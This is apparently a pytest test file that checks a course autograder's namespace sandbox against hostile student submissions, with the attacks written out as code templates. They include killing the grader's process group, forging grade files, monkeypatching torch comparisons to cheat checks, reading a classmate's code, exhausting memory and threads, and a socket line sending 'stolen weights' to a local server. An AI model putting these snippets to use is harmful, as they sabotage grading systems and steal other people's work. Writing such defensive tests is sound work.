"""A class of hostile and broken submissions, graded together as a real batch would grade them.

Each submission is a copy of solutions/ whose ``resnet.py`` misbehaves: a syntax error, a missing
package, an exit, a hang, a memory hog, a segfault, megabytes of output, forged comparisons,
reading the kit's solutions or another student's files, using torchvision's block, writing
outside its folder, killing the grader, the network, too many threads. The whole class (and two
honest copies) is graded ONCE, in a module-scoped fixture, by ``grade_class(..., jobs=2,
sandbox="namespaces")`` against a small rubric: two BasicBlock checks (resnet.py, where the harm
is, with an 8 s time limit so that hangs are quick) and two SE checks (attention.py: the "other
checks", which must keep full marks), with the real rubric's forbidden list and tolerances, and
its sandbox limits except for half the memory. The tests then read what the batch left on disk:
every submission's ``results.json`` and the gradebook.

For each hostile submission one test asserts that the grader finished and wrote its results,
that the affected checks score 0 and say why (a distinctive piece of the feedback), that the
attention checks keep full marks, and that nothing was forged: the results name exactly the
rubric's checks with the rubric's points, their total is their sum, every feedback is short.
The honest copies (one the target of a forged results.json) must get full marks, and nothing may
appear in the kit, in a submission folder or in the batch's output but the grader's results.

Several attacks (killing the grader's process group, writing into the kit, exhausting memory)
would harm the machine without the sandbox's namespaces: every test is skipped where
``namespaces_unavailable("cpu")`` says they cannot be made.
"""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import shutil
import socket
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

import pytest
import torch

from autograder import paths
from autograder.batch import grade_class, write_gradebook
from autograder.checks import CHECKS
from autograder.engine.sandbox import namespaces_unavailable
from autograder.grade import STYLE_ID, grade
from autograder.rubric import Rubric, load_rubric

pytestmark = pytest.mark.slow  # end-to-end: left out by ./kit test --fast

RESNET_CHECKS = ("part1.basic_block.shapes", "part1.basic_block.numerics")
ATTENTION_CHECKS = ("part2.se.shapes", "part2.se.gate")
RESNET_TIMEOUT_S = 8.0
"""Time limit of each resnet check: a hanging submission costs two of these."""
MEMORY_MB = 2048
"""Memory limit of each worker (the real rubric's is 4096)."""
OUTPUT_BOUND = 5000
"""Most characters any feedback ``output`` in results.json may have."""

KIT = paths.ROOT
HACKED = KIT / "HACKED"
"""What a submission tries to create in the kit's folder."""
SOLUTION = (paths.SOLUTIONS / "resnet.py").read_text(encoding="utf-8")
FUTURE = "from __future__ import annotations\n"
FORWARD_DOC = "        \"\"\"(B, C_in, H, W) -> (B, C_out, H', W').\"\"\"\n"
"""The first line of BasicBlock.forward (the docstring), after which code is inserted."""


def small_rubric() -> Rubric:
    """The real rubric's rules (tolerances, forbidden list, limits) for four checks, 1 point each; the
    resnet checks with a short time limit, and workers with half the memory (ample for these checks:
    the memory hog then meets its limit in a second, not in the several seconds 4 GB take here)."""
    real = load_rubric(paths.ROOT / "grading.yml", CHECKS)
    checks = {check_id: dataclasses.replace(real.checks[check_id], points=1.0,
                                            timeout_s=RESNET_TIMEOUT_S if check_id in RESNET_CHECKS
                                            else real.checks[check_id].timeout_s)
              for check_id in RESNET_CHECKS + ATTENTION_CHECKS}
    rubric = dataclasses.replace(real, checks=checks, code_points=4.0, total=4.0 + (real.total - real.code_points),
                                 sandbox=dataclasses.replace(real.sandbox, memory_mb=MEMORY_MB))
    assert "torchvision.models" in rubric.forbidden  # the from-scratch rule the wrapping submissions meet
    return rubric


# ---------------------------------------------------------------------------------------------
# How a hostile resnet.py is made: edits applied in turn to the reference's text. ``code`` is a
# template filled with the batch's context (paths, pids, the port): see the ``batch`` fixture.

Edit = Callable[[str, dict], str]


def at_import(code: str) -> Edit:
    """Run ``code`` at import (right after the __future__ import, which must stay first)."""
    def edit(text: str, context: dict) -> str:
        assert text.count(FUTURE) == 1
        return text.replace(FUTURE, FUTURE + textwrap.dedent(code).format(**context) + "\n", 1)
    return edit


def in_forward(code: str) -> Edit:
    """Run ``code`` first in BasicBlock.forward."""
    def edit(text: str, context: dict) -> str:
        start, end = text.index("class BasicBlock("), text.index("class BottleneckBlock(")
        at = text.index(FORWARD_DOC, start) + len(FORWARD_DOC)
        assert at < end, "BasicBlock.forward's docstring moved"
        return text[:at] + textwrap.indent(textwrap.dedent(code).format(**context), " " * 8) + "\n" + text[at:]
    return edit


def replace_basic_block(code: str) -> Edit:
    """Rename the reference's BasicBlock away and define ``code``'s BasicBlock in its place."""
    def edit(text: str, context: dict) -> str:
        assert text.count("class BasicBlock(nn.Module):") == 1 and text.count("class BottleneckBlock(") == 1
        text = text.replace("class BasicBlock(nn.Module):", "class _ReferenceBlock(nn.Module):", 1)
        return text.replace("class BottleneckBlock(", textwrap.dedent(code).format(**context).strip() + "\n\n\n"
                            "class BottleneckBlock(", 1)
    return edit


def only(code: str) -> Edit:
    """A resnet.py of only ``code``: none of the reference's."""
    return lambda text, context: textwrap.dedent(code).format(**context)


@dataclass(frozen=True)
class Hostile:
    """One hostile submission: how its resnet.py is made, and what its resnet checks must show."""

    name: str
    edits: tuple[Edit, ...]
    expect: dict[str, Optional[tuple[str, ...]]]
    """Resnet check id -> pieces of which its feedback must hold one when it scores 0, or None: full
    marks. A check left out may score anything (its results are still checked for forgery)."""

    def resnet(self, context: dict) -> str:
        text = SOLUTION
        for edit in self.edits:
            text = edit(text, context)
        return text


def zero(*reasons: str) -> dict[str, tuple[str, ...]]:
    """Both resnet checks score 0 and say one of ``reasons``."""
    return {check_id: reasons for check_id in RESNET_CHECKS}


FULL = {check_id: None for check_id in RESNET_CHECKS}
HANG = f"no answer within the check's time limit of {RESNET_TIMEOUT_S:g} s"
EARLIER = "did not return within its time limit earlier in this grading"


def hangs() -> dict[str, tuple[str, ...]]:
    """The first resnet check waits its time limit; the second fails at once, as the code that hung is not run again."""
    first, *later = RESNET_CHECKS
    return {first: (HANG,), **{check_id: (EARLIER,) for check_id in later}}


HOSTILE: list[Hostile] = [
    Hostile("syntax_error", (at_import("def broken(:\n    pass\n"),), zero("SyntaxError")),
    Hostile("missing_package", (at_import("import surely_missing_package\n"),),
            zero("ModuleNotFoundError: No module named 'surely_missing_package'")),
    Hostile("sys_exit", (at_import("import sys\nsys.exit(3)\n"),), zero("SystemExit: 3")),
    Hostile("os_exit", (at_import("import os\nprint('so long')\nos._exit(1)\n"),), zero("exit code 1")),
    Hostile("infinite_loop", (in_forward("while True:\n    pass\n"),), hangs()),
    Hostile("sleeps_at_import", (at_import("import time\ntime.sleep(10 ** 6)\n"),), hangs()),
    Hostile("memory_hog", (at_import("chunks = []\nwhile True:\n    chunks.append(bytearray(256 << 20))\n"),),
            zero("MemoryError")),
    Hostile("segfault", (in_forward("import ctypes\nctypes.string_at(0)\n"),), zero("SIGSEGV")),
    Hostile("chatty", (at_import("for _ in range(20 * 1024):\n    print('y' * 1023)\n"),  # 20 MB at import
                       in_forward("for _ in range(256):\n    print('z' * 1023)\n")), FULL),  # 256 kB a call
    Hostile("forged_comparisons", (at_import("""
            import torch, torch.testing
            def _always(*args, **kwargs):
                return True
            def _all_true(a, *args, **kwargs):
                return torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
            torch.allclose = torch.equal = torch.Tensor.allclose = torch.Tensor.equal = _always
            torch.isclose = torch.Tensor.isclose = torch.Tensor.__eq__ = _all_true
            torch.testing.assert_close = lambda *args, **kwargs: None
            """), in_forward("return torch.zeros_like(self.bn2(self.conv2(self.relu(self.bn1(self.conv1(x))))))\n")),
            {"part1.basic_block.numerics": ("output differs from the reference",)}),  # shapes are right: may pass
    Hostile("imports_solutions", (only("from solutions.resnet import *\n"),),
            zero("No module named 'solutions' (the kit's packages are not open to submissions)")),
    Hostile("execs_solutions", (only("exec(open({solutions_resnet!r}).read())\n"),), zero("FileNotFoundError")),
    Hostile("subclasses_torchvision", (replace_basic_block("""
            import torchvision.models.resnet as _tv


            class BasicBlock(_tv.BasicBlock):
                preactivation = False

                def __init__(self, in_channels, out_channels, stride=1, downsample=None, attention=None):
                    super().__init__(in_channels, out_channels, stride, downsample)
            """),), zero("the lab asks for a from-scratch implementation")),
    Hostile("wraps_torchvision", (replace_basic_block("""
            import torchvision.models.resnet as _tv


            class BasicBlock(nn.Module):
                expansion = 1
                preactivation = False

                def __init__(self, in_channels, out_channels, stride=1, downsample=None, attention=None):
                    super().__init__()
                    self.block = _tv.BasicBlock(in_channels, out_channels, stride, downsample)

                def forward(self, x):
                    return self.block(x)
            """),), zero("the lab asks for a from-scratch implementation")),
    Hostile("writes_outside", (at_import("""
            import os
            for _target in ({hacked!r}, {own_folder!r} + "/HACKED", {victim_results!r}, {phantom_results!r}):
                try:
                    os.makedirs(os.path.dirname(_target), exist_ok=True)
                    with open(_target, "w") as _file:
                        _file.write({forged!r})
                except OSError as _error:
                    print("could not write", _target, _error)
            """),), FULL),
    Hostile("reads_honest", (only("exec(open({honest_resnet!r}).read())\n"),), zero("FileNotFoundError")),
    Hostile("kills_parent", (at_import("""
            import os, signal
            _outcomes = []
            for _kill in (lambda: os.kill({pytest_pid}, signal.SIGKILL), """
                          """lambda: os.killpg({pytest_pgid}, signal.SIGKILL)):
                try:
                    _kill()
                    _outcomes.append("killed")
                except OSError as _error:
                    _outcomes.append(type(_error).__name__)
            print(f"outside kills: {{_outcomes}}", flush=True)
            os.kill(os.getppid(), signal.SIGKILL)  # getppid() is 0 in its PID namespace: kill(0) hits its process group
            raise RuntimeError(f"still alive; outside kills: {{_outcomes}}")
            """),), zero("outside kills: ['ProcessLookupError', 'ProcessLookupError']")),
    Hostile("network", (at_import("""
            import socket
            socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"stolen weights")
            """),), zero("Network is unreachable")),
    Hostile("threads", (at_import("""
            import threading, time
            for _ in range(1000):  # 8 MB of stack each: the memory limit stops them, or the process limit
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            """),), zero("can't start new thread",  # a stack's mmap failed,
                         "MemoryError",  # or the stacks took the memory and Python's next allocation failed,
                         "ran more than 256 processes and threads")),  # or the sandbox's init counted 256
    Hostile("threads_small_stacks", (at_import("""
            import threading, time
            threading.stack_size(256 << 10)  # 400 x 256 kB: only the process limit (256) stops them
            for _ in range(400):
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            """),), zero("ran more than 256 processes and threads" if os.geteuid() == 0  # RLIMIT_NPROC exempts root:
                          else "can't start new thread")),  # the sandbox's init counts them
]
"""One per hostile submission."""
HONEST = ("honest", "zz_honest2")
"""Untouched copies of solutions/; zz_honest2 sorts after writes_outside, whose forged results target it."""
PHANTOM = "zz_phantom"
"""No such submission: writes_outside tries to add its results to the batch's output."""
FORGED = json.dumps({"score": 999, "max_score": 4, "output": "forged", "tests": [
    {"name": check_id, "score": 999, "max_score": 1, "output": "forged"}
    for check_id in RESNET_CHECKS + ATTENTION_CHECKS]})


@dataclass
class Batch:
    """What grading the class left behind."""

    out: Path
    folder: Path
    results: dict[str, dict]
    """Submission -> its results.json (absent when none was written)."""
    graded: list[str]
    log: str
    progress: str
    gradebook: list[list[str]]
    seconds: float
    server_accepted: list
    """Connections the TCP server (the network attack's target) accepted."""
    hacked: bool
    """Whether the batch created the kit's HACKED file (then removed)."""
    hacked_before: bool
    """Whether the kit had a HACKED file before the batch (left by someone else: the test cannot tell)."""


@pytest.fixture(scope="module")
def batch(tmp_path_factory) -> Batch:
    """Grade the whole class once (jobs=2, namespaces required)."""
    reason = namespaces_unavailable("cpu")
    if reason is not None:
        pytest.skip(f"Linux namespaces cannot be made here ({reason}); these submissions would harm the machine "
                    "(kill the grader, write into the kit, exhaust its memory) without them")
    root = tmp_path_factory.mktemp("hostile")
    folder, out = root / "class", root / "out"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.setblocking(False)
    context = {
        "hacked": str(HACKED), "solutions_resnet": str(paths.SOLUTIONS / "resnet.py"),
        "honest_resnet": str(folder / "honest" / "resnet.py"),
        "victim_results": str(out / "zz_honest2" / "results.json"),
        "phantom_results": str(out / PHANTOM / "results.json"), "forged": FORGED,
        "pytest_pid": os.getpid(), "pytest_pgid": os.getpgid(0), "port": server.getsockname()[1],
    }
    for name in HONEST:
        shutil.copytree(paths.SOLUTIONS, folder / name)
    for hostile in HOSTILE:
        shutil.copytree(paths.SOLUTIONS, folder / hostile.name)
        own = {**context, "own_folder": str(folder / hostile.name)}
        (folder / hostile.name / "resnet.py").write_text(hostile.resnet(own), encoding="utf-8")
    rubric = small_rubric()
    hacked_before = HACKED.exists()
    log, progress = [], io.StringIO()
    previous = torch.get_num_threads()
    torch.set_num_threads(1)
    start = time.monotonic()
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("OMP_NUM_THREADS", "1")  # two graders on two cores: no spin-waiting thread pools
            graded = grade_class(folder, out, rubric, "cpu", jobs=2, sandbox="namespaces", log=log.append,
                               progress_stream=progress)
        seconds = time.monotonic() - start
        gradebook = list(csv.reader(write_gradebook(out, rubric).read_text(encoding="utf-8").splitlines()))
        accepted = []
        try:
            while True:
                accepted.append(server.accept())
        except BlockingIOError:
            pass
    finally:
        torch.set_num_threads(previous)
        server.close()
        hacked = HACKED.exists() and not hacked_before
        if hacked:  # never leave it behind; the test says it was made
            HACKED.unlink()
    results = {entry.name: json.loads((entry / "results.json").read_text(encoding="utf-8"))
               for entry in sorted(out.iterdir()) if (entry / "results.json").is_file()}
    return Batch(out, folder, results, graded, "\n".join(log), progress.getvalue(), gradebook, seconds, accepted,
                 hacked, hacked_before)


def scores(batch: Batch, name: str) -> dict[str, float]:
    return {test["name"]: test["score"] for test in batch.results[name]["tests"] if test["name"] != STYLE_ID}


def outputs(batch: Batch, name: str) -> dict[str, str]:
    return {test["name"]: test["output"] for test in batch.results[name]["tests"]}


def assert_genuine_results(batch: Batch, name: str) -> None:
    """``name``'s results.json is a grade of the rubric's checks, written by the grader: nothing forged."""
    assert name in batch.results, f"no results.json for {name}; log: {batch.log}\n{batch.progress}"
    data = batch.results[name]
    tests, style = data["tests"][:-1], data["tests"][-1]
    assert [test["name"] for test in tests] == list(RESNET_CHECKS + ATTENTION_CHECKS)
    assert (style["name"], style["score"], style["max_score"]) == (STYLE_ID, 0, 0)
    assert all(test["max_score"] == 1 and 0 <= test["score"] <= 1 for test in tests), tests
    assert data["max_score"] == 4 and data["score"] == pytest.approx(sum(test["score"] for test in tests))
    assert "forged" not in json.dumps(data)
    assert "Linux namespaces" in data["output"]  # the note: the workers ran in namespaces
    assert all(len(test["output"]) < OUTPUT_BOUND for test in tests), [len(test["output"]) for test in tests]
    assert len(data["output"]) < OUTPUT_BOUND


def test_every_submission_is_graded_and_the_honest_ones_get_full_marks(batch):
    names = sorted([*HONEST, *(hostile.name for hostile in HOSTILE)])
    assert sorted(batch.graded) == names, batch.progress
    assert batch.seconds < 300, (f"the class took {batch.seconds:.0f} s: "
                                 "does a hang wait for more than its check's limit?")
    assert "not graded" not in batch.progress, batch.progress
    assert batch.progress.count("\n") == len(names)  # a line per submission (not a terminal: no bar)
    assert f"{len(names)} submission(s) in this shard, 0 already graded, {len(names)} to grade" in batch.log
    assert sorted(batch.results) == names  # no results for anything else (the phantom)
    assert not (batch.out / PHANTOM).exists()
    assert [row[0] for row in batch.gradebook[1:]] == names
    for name in HONEST:
        assert_genuine_results(batch, name)
        assert scores(batch, name) == {check_id: 1
                                       for check_id in RESNET_CHECKS + ATTENTION_CHECKS}, outputs(batch, name)
        assert next(row for row in batch.gradebook if row[0] == name)[1:3] == ["4", "4"]


@pytest.mark.parametrize("hostile", HOSTILE, ids=[hostile.name for hostile in HOSTILE])
def test_a_hostile_submission_scores_what_it_earned_and_harms_nothing_else(batch, hostile):
    assert_genuine_results(batch, hostile.name)
    got, said = scores(batch, hostile.name), outputs(batch, hostile.name)
    for check_id in ATTENTION_CHECKS:
        assert got[check_id] == 1, said[check_id]
    for check_id, reason in hostile.expect.items():
        if reason is None:
            assert got[check_id] == 1, said[check_id]
        else:
            assert got[check_id] == 0, said[check_id]
            assert not isinstance(reason, str), "a reason is a tuple of pieces"  # a str would match any letter
            assert any(piece in said[check_id] for piece in reason), said[check_id]
    row = next(row for row in batch.gradebook if row[0] == hostile.name)
    assert float(row[1]) == pytest.approx(batch.results[hostile.name]["score"])


def test_writes_outside_the_working_folder_change_nothing(batch):
    assert not batch.hacked_before, f"{HACKED} existed before the batch (an earlier run?): remove it and rerun"
    assert not batch.hacked, f"a submission created {HACKED} (removed now)"
    assert not (batch.folder / "writes_outside" / "HACKED").exists()
    assert sorted(p.name for p in (batch.folder / "writes_outside").iterdir()) == sorted(
        p.name for p in paths.SOLUTIONS.iterdir() if p.suffix == ".py")
    assert not (batch.out / PHANTOM).exists()
    assert scores(batch, "zz_honest2") == {check_id: 1 for check_id in RESNET_CHECKS + ATTENTION_CHECKS}
    assert "forged" not in (batch.out / "zz_honest2" / "results.json").read_text(encoding="utf-8")


def test_no_connection_reaches_the_machine(batch):
    assert batch.server_accepted == []


def test_killing_the_parent_harms_no_one(batch):
    """This test runs, so pytest survived; the batch finished and every other submission was graded."""
    assert sorted(batch.graded) == sorted([*HONEST, *(hostile.name for hostile in HOSTILE)])
    assert scores(batch, "honest") == {check_id: 1 for check_id in RESNET_CHECKS + ATTENTION_CHECKS}


def test_the_folder_the_grader_runs_from_stays_out_of_sight(batch, monkeypatch):
    """As `cd COURSE && python -m autograder batch class --out out` would have it: COURSE on sys.path."""
    monkeypatch.syspath_prepend(str(batch.folder.parent))
    rubric = small_rubric()
    rubric = dataclasses.replace(rubric, checks={RESNET_CHECKS[0]: rubric.checks[RESNET_CHECKS[0]]})
    (result,) = grade(batch.folder / "reads_honest", rubric, "cpu", sandbox="namespaces").results
    assert result.score == 0 and "FileNotFoundError" in result.output, result.output
